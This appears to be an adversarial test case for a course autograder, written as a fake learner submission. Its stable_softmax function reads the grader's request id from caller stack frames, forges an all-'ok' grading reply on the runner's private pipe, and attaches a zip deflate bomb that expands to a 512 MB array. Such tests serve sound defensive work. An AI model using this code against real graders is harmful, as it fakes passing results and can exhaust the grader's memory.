# expect: error
# Class 3: send the grader a deflate bomb as the output .npz (a 512 MB array in a small archive) on the
# runner's own pipe, as the answer to the grader's current request (its id read from the runner's frame).
import io
import json
import os
import struct
import sys
import time
import zipfile

import numpy as np

header = io.BytesIO()
np.lib.format.write_array_header_1_0(header, {"descr": "<f8", "fortran_order": False, "shape": (1 << 26,)})
archive = io.BytesIO()
with zipfile.ZipFile(archive, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=1) as z:
    with z.open("a0.npy", "w", force_zip64=True) as f:
        f.write(header.getvalue())
        for _ in range(8):
            f.write(bytes(16 << 20))


def _answer(payload_for):
    """Answer the grader's current request from inside the learner's function: its id is in a caller's frame
    (the runner's main loop keeps it apart from the request it hands on, as ``nonce``)."""
    frame = sys._getframe(1)
    while frame is not None:
        request, nonce = frame.f_locals.get("request"), frame.f_locals.get("nonce")
        if isinstance(request, dict) and request.get("do") == "cases" and isinstance(nonce, str):
            return payload_for({**request, "id": nonce})
        frame = frame.f_back
    return None


def _bomb(request):
    cases = [{"status": "ok", "output": {"t": "ndarray", "key": "a0"}, "observed": None}] * 8
    head = json.dumps({"id": request["id"], "exercise": request["exercise"], "cases": cases}).encode()
    payload = struct.pack(">I", len(head)) + head + archive.getvalue()
    channel = int(os.environ.get("COURSE_GRADE_CHANNEL", "3"))
    os.write(channel, struct.pack(">Q", len(payload)))
    view = memoryview(payload)
    while view:
        view = view[os.write(channel, view):]
    time.sleep(30)  # the grader has its answer: the runner's own never comes


def stable_softmax(x, dim=-1):
    _answer(_bomb)
    return x
